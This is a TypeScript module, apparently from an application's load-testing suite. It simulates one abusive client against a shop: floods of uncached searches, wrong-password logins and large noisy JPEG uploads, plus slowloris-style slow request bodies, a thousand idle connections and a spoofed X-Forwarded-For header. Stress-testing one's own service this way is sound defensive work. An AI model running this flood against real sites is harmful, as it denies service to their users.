// One address that requests whatever is most expensive, as fast as it can, until told to stop. Runs in its own process at the lowest
// priority, because a real attacker would have a machine of their own.
import { randomBytes } from 'node:crypto';
import net from 'node:net';
import os from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import sharp from 'sharp';
import type { Ask } from '../load.ts';
import { askOnce, openAgent } from './ask.ts';
import { randomFrom } from './random.ts';

export interface AttackRequest {
  url: string;
  tokens: readonly string[];
  seed: number;
}

/** Number of concurrent loops of each kind, and of open connections. */
const SEARCHES = 100;
const LOGINS = 20;
const UPLOADS = 8;
const SLOW_BODIES = 50;
const IDLE = 1_000;
const SLOW_BYTE_MS = 1_000;
const RECONNECT_MS = 100;
const ADDRESS = { 'x-forwarded-for': '203.0.113.9', 'user-agent': 'Mozilla/5.0' };
const PICTURE_SIZE = 2_500;

const agent = openAgent(500);
const statuses: Record<string, number> = {};

async function forever(work: () => Promise<number>): Promise<never> {
  for (;;) {
    const status = await work();
    statuses[status] = (statuses[status] ?? 0) + 1;
    if (status === 0) await sleep(RECONNECT_MS);
  }
}

/** Filters and words that hit no cache. */
function searches(seed: number): () => Ask {
  const { below, oneOf } = randomFrom(seed);
  const word = () => Array.from({ length: 3 + below(9) }, () => oneOf([...'aeiourstlnmcd'])).join('');
  const post = (at: string, body: object): Ask => ({ method: 'POST', path: `/api/${at}`, body, headers: ADDRESS });
  const filters = () => ({
    attribute_master_ids: Array.from({ length: 20 }, () => 1 + below(60)),
    from_price: below(20),
    to_price: 20 + below(80),
  });
  return () =>
    oneOf([
      () => post('product/search-web', { ...filters(), keyword: `${word()} ${word()} without ${word()}`, offset: below(500), limit: 60 }),
      () => post('search/list-web', { keyword: `${word()} ${word()}` }),
      (): Ask => ({ path: `/en/search-result/${word()}%20${word()}?to_price=${below(90)}`, headers: ADDRESS }),
      (): Ask => ({ path: `/api/post/list?keyword=${word()}&offset=${below(200)}`, headers: ADDRESS }),
    ])();
}

const login = (): Ask => ({
  method: 'POST',
  path: '/api/login',
  body: { email: `nobody.${randomBytes(4).toString('hex')}@example.org`, password: 'Wrong-password-26' },
  headers: ADDRESS,
});

/** Uploads a picture that is slow to decode. */
async function upload(url: string, token: string, picture: Buffer): Promise<number> {
  const form = new FormData();
  form.append('image', new Blob([new Uint8Array(picture)], { type: 'image/jpeg' }), 'photo.jpg');
  const init = { method: 'POST', body: form, headers: { ...ADDRESS, authorization: `Bearer ${token}` } };
  const response = await fetch(`${url}/api/user/photo`, init).catch(() => null);
  await response?.arrayBuffer().catch(() => null);
  return response?.status ?? 0;
}

/** Reconnects whenever the connection ends. */
function keepOpen(url: URL, begin: (socket: net.Socket) => void): void {
  const socket = net.connect(Number(url.port), url.hostname, () => begin(socket));
  socket.on('error', () => undefined).resume();
  socket.once('close', () => setTimeout(() => keepOpen(url, begin), RECONNECT_MS));
}

function slowBody(socket: net.Socket): void {
  const head = ['POST /api/search/list-web HTTP/1.1', 'host: shop', 'content-type: application/json', 'content-length: 1000000'];
  socket.write(`${[...head, ...Object.entries(ADDRESS).map(([name, value]) => `${name}: ${value}`)].join('\r\n')}\r\n\r\n{`);
  const dripping = setInterval(() => socket.write(' '), SLOW_BYTE_MS);
  socket.once('close', () => clearInterval(dripping));
}

async function attack({ url, tokens, seed }: AttackRequest): Promise<void> {
  const noise = {
    width: PICTURE_SIZE,
    height: PICTURE_SIZE,
    channels: 3 as const,
    noise: { type: 'gaussian' as const, mean: 128, sigma: 60 },
  };
  const picture = await sharp({ create: { ...noise, background: '#000' } })
    .jpeg({ quality: 60 })
    .toBuffer();
  process.send?.('ready');
  const status = (ask: Ask) => askOnce(url, ask, agent).then((outcome) => outcome.status);
  const search = searches(seed);
  for (let at = 0; at < SEARCHES; at += 1) void forever(() => status(search()));
  for (let at = 0; at < LOGINS; at += 1) void forever(() => status(login()));
  for (let at = 0; at < UPLOADS; at += 1) void forever(() => upload(url, tokens[at % tokens.length] ?? '', picture));
  for (let at = 0; at < SLOW_BODIES; at += 1) keepOpen(new URL(url), slowBody);
  for (let at = 0; at < IDLE; at += 1) keepOpen(new URL(url), () => undefined);
}

os.setPriority(os.constants.priority.PRIORITY_LOW);
process.on('message', (request: AttackRequest | 'stop') => {
  if (request !== 'stop') return void attack(request);
  process.send?.(statuses, () => process.exit());
});
process.once('disconnect', () => process.exit());
